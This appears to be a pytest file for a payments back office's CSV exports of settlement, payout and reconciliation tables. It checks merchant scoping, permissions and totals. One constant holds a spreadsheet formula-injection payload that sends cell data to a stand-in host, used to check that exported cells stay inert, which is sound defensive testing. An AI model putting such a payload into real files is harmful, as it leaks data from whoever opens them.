"""CSV export of every finance table of the admin through one action (admin_csv.csv_export_action):
settlement runs and their items, payout settings, payouts, and the run page's outcome, receivable
and aging tables; limited to the user's merchants, behind the export permission, formula-inert."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission

from payera.staff.access import ACCESS_ALL_MERCHANTS, staff_grant_merchant
from reconciliation.models import Discrepancy, ReconciliationRun, SettlementRun
from reconciliation.services import payout_mark_failed, reconcile_import
from tests.backoffice.staff import make_staff, otp_force_login
from tests.merchants.factories import MerchantFactory
from tests.reconciliation.helpers import BANK_ACCOUNT, make_payout
from tests.reconciliation.sandbox_day import report

ADMIN = "/admin/reconciliation"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _rows(response) -> list[dict]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), response.content[:300]
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def _login(client, role, *merchants, name="u", all_merchants=False):
    user = make_staff(name, role=role)
    for m in merchants:
        staff_grant_merchant(user=user, merchant_id=m.id)
    if all_merchants:
        app, codename = ACCESS_ALL_MERCHANTS.split(".")
        user.user_permissions.add(Permission.objects.get(content_type__app_label=app, codename=codename))
    otp_force_login(client, user)
    return user


@pytest.fixture
def two_merchants(db):
    a, b = MerchantFactory(name="A"), MerchantFactory(name="B")
    return a, b, make_payout(a), make_payout(b)


@pytest.mark.django_db
def test_settlement_and_payout_tables_export_only_the_users_merchants(client, two_merchants):
    a, b, pa, pb = two_merchants
    _login(client, "finance", a)
    ra, rb = (SettlementRun.objects.get(merchant=m) for m in (a, b))
    runs = _rows(client.post(f"{ADMIN}/settlementrun/", {"action": "export_csv", "_selected_action": [ra.id, rb.id]}))
    assert [(r["id"], r["amount"], r["payout_id"]) for r in runs] == [(ra.id, "9700", pa.id)]
    items = _rows(
        client.post(f"{ADMIN}/settlementrun/", {"action": "export_items", "_selected_action": [ra.id, rb.id]})
    )
    assert [(r["run_id"], r["kind"], r["amount"]) for r in items] == [(ra.id, "capture", "9700")]
    settings = _rows(
        client.post(f"{ADMIN}/merchantpayoutsettings/", {"action": "export_csv", "_selected_action": [a.id, b.id]})
    )
    assert [(r["merchant_id"], r["bank_account_masked"]) for r in settings] == [(a.id, "DE89…3000")]
    payouts = client.post(f"{ADMIN}/payout/", {"action": "export_csv", "_selected_action": [pa.id, pb.id]})
    assert [(r["id"], r["amount"], r["status"]) for r in _rows(payouts)] == [(pa.id, "9700", "pending")]
    assert BANK_ACCOUNT not in payouts.content.decode()


@pytest.mark.django_db
def test_staff_without_the_export_permission_get_no_csv(client, two_merchants):
    a, _, pa, _ = two_merchants
    _login(client, "operations", a)
    for url, pk in ((f"{ADMIN}/payout/", pa.id), (f"{ADMIN}/settlementrun/", SettlementRun.objects.get(merchant=a).id)):
        response = client.post(url, {"action": "export_csv", "_selected_action": [pk]})
        assert not response.get("Content-Type", "").startswith("text/csv")


@pytest.mark.django_db
def test_text_cells_are_exported_inert_and_negative_amounts_stay_numbers(client, two_merchants):
    """A formula typed into a reason (a payout's failure, a discrepancy's) reaches the CSV with a
    leading quote; a negative amount is still a number."""
    a, _, pa, _ = two_merchants
    payout_mark_failed(payout_id=pa.id, reason=EVIL)
    _login(client, "finance", a, name="fin", all_merchants=True)
    [row] = _rows(client.post(f"{ADMIN}/payout/", {"action": "export_csv", "_selected_action": [pa.id]}))
    assert row["failure_reason"] == "'" + EVIL[:199]
    run = ReconciliationRun.objects.create(psp="alpha", file_sha256="0" * 64, status="done")
    d = Discrepancy.objects.create(
        run=run,
        kind="missing_at_psp",
        psp="alpha",
        merchant=a,
        currency="EUR",
        psp_amount=0,
        payera_amount=250,
        difference=-250,
        reason=EVIL,
    )
    [row] = _rows(client.post(f"{ADMIN}/discrepancy/", {"action": "export_csv", "_selected_action": [d.id]}))
    assert row["reason"] == "'" + EVIL and row["difference"] == "-250"


@pytest.mark.django_db(transaction=True)
def test_the_run_pages_tables_export_per_currency(client, a_day_of_payments):
    alpha, _ = a_day_of_payments
    lines = report("alpha").decode().splitlines()
    raw = "\n".join([lines[0], lines[1], lines[3], lines[-1]]) + "\n"  # one capture left out: missing at PSP
    run = reconcile_import(psp="alpha", raw=raw.encode())
    _login(client, "finance", name="fin", all_merchants=True)
    post = {"_selected_action": [run.run_id]}
    outcomes = _rows(client.post(f"{ADMIN}/reconciliationrun/", {"action": "export_outcomes", **post}))
    # as the run page counts: the lines, and the captures and refunds the report lacks (session 14:
    # "missing at PSP" was left out of the CSV)
    assert {(r["run_id"], r["outcome"], r["currency"]) for r in outcomes} == {
        (run.run_id, "matched", "EUR"),
        (run.run_id, "missing_at_psp", "EUR"),
    }
    assert {r["outcome"]: int(r["count"]) for r in outcomes} == {
        "matched": 2,
        "missing_at_psp": run.discrepancies["missing_at_psp"],
    }
    receivable = _rows(client.post(f"{ADMIN}/reconciliationrun/", {"action": "export_receivable", **post}))
    assert [(r["psp"], r["currency"]) for r in receivable] == [("alpha", "EUR")] and receivable[0]["as_of"]
    aging = _rows(client.post(f"{ADMIN}/reconciliationrun/", {"action": "export_aging", **post}))
    assert [(r["psp"], r["bucket"], r["currency"]) for r in aging] == [("alpha", "0-1 days", "EUR")]
    assert int(aging[0]["amount"]) > 0 and int(aging[0]["count"]) >= 1
    limited = _login(client, "finance", alpha, name="fin_a")  # runs are PSP-wide: all-merchant staff only
    assert limited is not None
    response = client.post(f"{ADMIN}/reconciliationrun/", {"action": "export_outcomes", **post})
    assert not response.get("Content-Type", "").startswith("text/csv")


@pytest.mark.django_db(transaction=True)
def test_the_outcome_csv_counts_as_the_run_page_does(client, a_day_of_payments):
    """The outcome table's CSV agreed with the run page only for lines: it left out "missing at
    PSP" (discrepancies, no line) and counted the lines of a report sent again as duplicates where
    the page counts them as their earlier line did. Now each outcome's count and gross per
    currency are the page's (a report sent again with a row twice, and a capture it lacks)."""
    from reconciliation.admin_reports import _sums_by_currency

    lines = report("alpha").decode().splitlines()
    header, body, end = lines[0], lines[1:-1], lines[-1]
    reconcile_import(psp="alpha", raw=("\n".join([header, *body, end]) + "\n").encode())
    again = reconcile_import(psp="alpha", raw=("\n".join([header, *body[1:], body[1], end]) + "\n").encode())
    run = ReconciliationRun.objects.get(pk=again.run_id)
    page_counts = {"matched": run.summary["matched"], **run.summary["discrepancies"]}
    assert run.summary["sent_again"] == len(body) - 1 and page_counts["duplicate"] == 1
    _login(client, "finance", name="fin", all_merchants=True)
    rows = _rows(
        client.post(f"{ADMIN}/reconciliationrun/", {"action": "export_outcomes", "_selected_action": [run.id]})
    )
    csv_counts = {o: sum(int(r["count"]) for r in rows if r["outcome"] == o) for o in page_counts}
    assert csv_counts == page_counts, rows
    sums = _sums_by_currency(run)
    assert {(r["outcome"], r["currency"]): int(r["gross"]) for r in rows} == {
        (o, c): g for o, per in sums.items() for c, g in per.items() if page_counts.get(o)
    }


@pytest.mark.django_db
def test_the_payout_settings_csv_writes_the_per_currency_minimums_as_json(client, two_merchants):
    """What was wrong (session 16, w16c): since the minimum became a per-currency mapping (4b89dd3),
    the payout settings CSV wrote it as Python's repr, `{'EUR': 5000, 'JPY': 800}` (single quotes:
    not JSON, nothing a finance tool or a spreadsheet formula parses). It is JSON now, keys sorted."""
    from reconciliation.services import payout_settings_update

    a, _, _, _ = two_merchants
    payout_settings_update(
        merchant_id=a.id, minimum_payout_amounts={"JPY": 800, "EUR": 5000}, minimum_payout_default=True
    )
    _login(client, "finance", a)
    [row] = _rows(client.post(f"{ADMIN}/merchantpayoutsettings/", {"action": "export_csv", "_selected_action": [a.id]}))
    assert row["minimum_payout_amounts"] == '{"EUR": 5000, "JPY": 800}'
